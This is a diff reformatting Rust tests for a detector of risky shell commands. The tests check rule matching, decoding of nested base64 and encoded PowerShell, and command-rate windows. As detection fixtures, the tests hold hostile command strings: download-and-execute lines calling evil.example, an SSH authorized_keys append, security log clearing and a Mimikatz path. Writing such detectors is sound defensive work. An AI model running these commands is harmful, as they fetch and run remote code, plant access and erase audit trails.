@@ -12,7 +12,10 @@ use proptest::prelude::*;
 use super::*;
 
 fn ids(cmd: &str) -> Vec<String> {
-    check_command(cmd, RuleSet::builtin()).into_iter().map(|h| h.rule_id).collect()
+    check_command(cmd, RuleSet::builtin())
+        .into_iter()
+        .map(|h| h.rule_id)
+        .collect()
 }
 
 fn b64(bytes: &[u8]) -> String {
@@ -59,22 +62,38 @@ fn each_rule_fires_on_its_examples_and_not_on_benign_ones() {
     ];
     for (rule, positives, negatives) in cases {
         for p in *positives {
-            assert!(ids(p).iter().any(|i| i == rule), "{rule} should match: {p} (got {:?})", ids(p));
+            assert!(
+                ids(p).iter().any(|i| i == rule),
+                "{rule} should match: {p} (got {:?})",
+                ids(p)
+            );
         }
         for n in *negatives {
-            assert!(!ids(n).iter().any(|i| i == rule), "{rule} should not match: {n}");
+            assert!(
+                !ids(n).iter().any(|i| i == rule),
+                "{rule} should not match: {n}"
+            );
         }
     }
     // Every shipped rule has examples above.
     for r in RuleSet::builtin().rules() {
-        assert!(cases.iter().any(|(id, _, _)| *id == r.id), "no examples for {}", r.id);
+        assert!(
+            cases.iter().any(|(id, _, _)| *id == r.id),
+            "no examples for {}",
+            r.id
+        );
     }
 }
 
 #[test]
 fn encoded_powershell_payload_is_decoded_and_checked() {
-    let payload = b64(&utf16("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"));
-    let hits = check_command(&format!("powershell.exe -NoProfile -enc {payload}"), RuleSet::builtin());
+    let payload = b64(&utf16(
+        "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
+    ));
+    let hits = check_command(
+        &format!("powershell.exe -NoProfile -enc {payload}"),
+        RuleSet::builtin(),
+    );
     let enc = hits.iter().find(|h| h.rule_id == "HB-WIN-001").unwrap();
     assert_eq!(enc.matched_in, MatchedIn::Command);
     let dl = hits.iter().find(|h| h.rule_id == "HB-WIN-002").unwrap();
@@ -87,21 +106,37 @@ fn encoded_powershell_payload_is_decoded_and_checked() {
 fn nested_base64_is_decoded() {
     let inner = b64(b"curl -s http://evil.example/x.sh | bash");
     let outer = b64(format!("echo {inner} | base64 -d | sh").as_bytes());
-    let hits = check_command(&format!("sh -c \"echo {outer} | base64 -d | sh\""), RuleSet::builtin());
+    let hits = check_command(
+        &format!("sh -c \"echo {outer} | base64 -d | sh\""),
+        RuleSet::builtin(),
+    );
     let dl = hits.iter().find(|h| h.rule_id == "HB-LX-001").unwrap();
     assert_eq!(dl.matched_in, MatchedIn::Decoded { depth: 2 });
     assert_eq!(dl.matched_in.label(), "decoded (depth 2)");
-    assert!(hits.iter().any(|h| h.rule_id == "HB-LX-004" && h.matched_in == MatchedIn::Command));
+    assert!(hits
+        .iter()
+        .any(|h| h.rule_id == "HB-LX-004" && h.matched_in == MatchedIn::Command));
 }
 
 #[test]
 fn non_text_base64_and_short_runs_are_ignored() {
-    assert!(decoded_views(&b64(&[0u8, 159, 146, 150, 1, 2, 3, 200, 201, 202, 17, 18, 19, 20, 21, 22, 23])).is_empty());
+    assert!(decoded_views(&b64(&[
+        0u8, 159, 146, 150, 1, 2, 3, 200, 201, 202, 17, 18, 19, 20, 21, 22, 23
+    ]))
+    .is_empty());
     assert!(decoded_views("abc=").is_empty());
-    assert!(decoded_views("/usr/local/bin/something/else").is_empty() || decoded_views("/usr/local/bin/something/else").iter().all(|(t, _)| !t.is_empty()));
+    assert!(
+        decoded_views("/usr/local/bin/something/else").is_empty()
+            || decoded_views("/usr/local/bin/something/else")
+                .iter()
+                .all(|(t, _)| !t.is_empty())
+    );
     // URL-safe alphabet and missing padding are accepted.
-    let url_safe = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(b"wget http://h/a?b>>~/.ssh/authorized_keys");
-    assert!(decoded_views(&url_safe).iter().any(|(t, _)| t.contains("authorized_keys")));
+    let url_safe = base64::engine::general_purpose::URL_SAFE_NO_PAD
+        .encode(b"wget http://h/a?b>>~/.ssh/authorized_keys");
+    assert!(decoded_views(&url_safe)
+        .iter()
+        .any(|(t, _)| t.contains("authorized_keys")));
 }
 
 #[test]
@@ -114,12 +149,19 @@ fn user_rule_files() {
     let hits = check_command("C:\\t\\MIMIKATZ.exe", &set);
     assert_eq!(hits.len(), 1);
     assert_eq!(hits[0].matched, "MIMIKATZ");
-    assert!(RuleSet::from_file("/nonexistent/rules.json").unwrap_err().to_string().contains("/nonexistent/rules.json"));
+    assert!(RuleSet::from_file("/nonexistent/rules.json")
+        .unwrap_err()
+        .to_string()
+        .contains("/nonexistent/rules.json"));
 }
 
 fn table(commands: Vec<Option<&str>>, times: Vec<i64>, sessions: Option<Vec<&str>>) -> RecordBatch {
     let mut fields = vec![
-        Field::new("TimeGenerated", DataType::Timestamp(TimeUnit::Second, Some("UTC".into())), true),
+        Field::new(
+            "TimeGenerated",
+            DataType::Timestamp(TimeUnit::Second, Some("UTC".into())),
+            true,
+        ),
         Field::new("Command", DataType::Utf8, true),
     ];
     let mut cols: Vec<arrow_array::ArrayRef> = vec![
@@ -135,17 +177,51 @@ fn table(commands: Vec<Option<&str>>, times: Vec<i64>, sessions: Option<Vec<&str
 
 #[test]
 fn risky_commands_table() {
-    let batch = table(vec![Some("ls -la"), None, Some("curl http://h/x | sh"), Some(""), Some("wevtutil cl Security")], vec![1, 2, 3, 4, 5], None);
+    let batch = table(
+        vec![
+            Some("ls -la"),
+            None,
+            Some("curl http://h/x | sh"),
+            Some(""),
+            Some("wevtutil cl Security"),
+        ],
+        vec![1, 2, 3, 4, 5],
+        None,
+    );
     let out = risky_commands(&batch, &RiskyOptions::default()).unwrap();
-    let names: Vec<String> = out.schema().fields().iter().map(|f| f.name().clone()).collect();
-    assert_eq!(names, ["SourceIndex", "TimeGenerated", "Command", "RuleId", "RuleName", "Severity", "MatchedText", "MatchedIn"]);
+    let names: Vec<String> = out
+        .schema()
+        .fields()
+        .iter()
+        .map(|f| f.name().clone())
+        .collect();
+    assert_eq!(
+        names,
+        [
+            "SourceIndex",
+            "TimeGenerated",
+            "Command",
+            "RuleId",
+            "RuleName",
+            "Severity",
+            "MatchedText",
+            "MatchedIn"
+        ]
+    );
     assert_eq!(out.num_rows(), 2);
     let idx = out.column(0).as_primitive::<UInt64Type>();
     assert_eq!((idx.value(0), idx.value(1)), (2, 4));
     assert_eq!(out.column(3).as_string::<i32>().value(0), "HB-LX-001");
     assert_eq!(out.column(5).as_string::<i32>().value(1), "high");
     assert_eq!(out.column(7).as_string::<i32>().value(0), "command");
-    let err = risky_commands(&batch, &RiskyOptions { cmd_column: "Cmd".into(), ..RiskyOptions::default() }).unwrap_err();
+    let err = risky_commands(
+        &batch,
+        &RiskyOptions {
+            cmd_column: "Cmd".into(),
+            ..RiskyOptions::default()
+        },
+    )
+    .unwrap_err();
     assert!(err.to_string().contains("'Cmd'"));
 }
 
@@ -153,7 +229,13 @@ fn risky_commands_table() {
 fn cmd_speed_follows_msticpy_windows() {
     // 12 commands one second apart: with N=3 and T=5s, the command 3 after i is 3s
     // later, so every start 0..=8 is flagged.
-    let cmds: Vec<TimedCommand<'_>> = (0..12).map(|i| TimedCommand { row: i, time_ns: i as i64 * 1_000_000_000, session: None }).collect();
+    let cmds: Vec<TimedCommand<'_>> = (0..12)
+        .map(|i| TimedCommand {
+            row: i,
+            time_ns: i as i64 * 1_000_000_000,
+            session: None,
+        })
+        .collect();
     let w = cmd_speed(&cmds, 5_000_000_000, 3);
     assert_eq!(w.len(), 9);
     assert_eq!(w[0].rows, [0, 1, 2]);
@@ -169,18 +251,40 @@ fn cmd_speed_per_session_and_sorted() {
     let sessions = vec!["b", "a", "a", "b", "a", "b", "a", "b"];
     let cmds = vec![Some("x"); 8];
     let batch = table(cmds, times, Some(sessions));
-    let opts = SpeedOptions { session_column: Some("Session".into()), events: 3, window_seconds: 5.0, ..SpeedOptions::default() };
+    let opts = SpeedOptions {
+        session_column: Some("Session".into()),
+        events: 3,
+        window_seconds: 5.0,
+        ..SpeedOptions::default()
+    };
     let out = cmd_speed_table(&batch, &opts).unwrap();
     assert_eq!(out.num_rows(), 2);
     let sess = out.column(0).as_string::<i32>();
     assert_eq!((sess.value(0), sess.value(1)), ("b", "a"));
     let rows = out.column(4).as_list::<i32>();
     let first = rows.value(1);
-    assert_eq!(first.as_primitive::<UInt64Type>().values().to_vec(), vec![1, 2, 4]);
+    assert_eq!(
+        first.as_primitive::<UInt64Type>().values().to_vec(),
+        vec![1, 2, 4]
+    );
     // One session: interleaved sessions are one stream of 8 commands.
-    let all = cmd_speed_table(&batch, &SpeedOptions { events: 3, ..SpeedOptions::default() }).unwrap();
+    let all = cmd_speed_table(
+        &batch,
+        &SpeedOptions {
+            events: 3,
+            ..SpeedOptions::default()
+        },
+    )
+    .unwrap();
     assert!(all.num_rows() >= 2);
-    let bad = cmd_speed_table(&batch, &SpeedOptions { events: 0, ..SpeedOptions::default() }).unwrap_err();
+    let bad = cmd_speed_table(
+        &batch,
+        &SpeedOptions {
+            events: 0,
+            ..SpeedOptions::default()
+        },
+    )
+    .unwrap_err();
     assert!(bad.to_string().contains("events"));
 }
 
@@ -193,15 +297,35 @@ fn speed_times_from_strings() {
     let batch = RecordBatch::try_new(
         schema.clone(),
         vec![
-            Arc::new(StringArray::from(vec!["2024-01-01 00:00:00", "2024-01-01T00:00:01Z", "2024-01-01 00:00:01.500"])),
+            Arc::new(StringArray::from(vec![
+                "2024-01-01 00:00:00",
+                "2024-01-01T00:00:01Z",
+                "2024-01-01 00:00:01.500",
+            ])),
             Arc::new(StringArray::from(vec!["a", "b", "c"])),
         ],
     )
     .unwrap();
-    let out = cmd_speed_table(&batch, &SpeedOptions { events: 2, ..SpeedOptions::default() }).unwrap();
+    let out = cmd_speed_table(
+        &batch,
+        &SpeedOptions {
+            events: 2,
+            ..SpeedOptions::default()
+        },
+    )
+    .unwrap();
     assert_eq!(out.num_rows(), 1);
-    let bad = RecordBatch::try_new(schema, vec![Arc::new(StringArray::from(vec!["yesterday"])), Arc::new(StringArray::from(vec!["a"]))]).unwrap();
-    let err = cmd_speed_table(&bad, &SpeedOptions::default()).unwrap_err().to_string();
+    let bad = RecordBatch::try_new(
+        schema,
+        vec![
+            Arc::new(StringArray::from(vec!["yesterday"])),
+            Arc::new(StringArray::from(vec!["a"])),
+        ],
+    )
+    .unwrap();
+    let err = cmd_speed_table(&bad, &SpeedOptions::default())
+        .unwrap_err()
+        .to_string();
     assert!(err.contains("row 0") && err.contains("yesterday"), "{err}");
 }
 
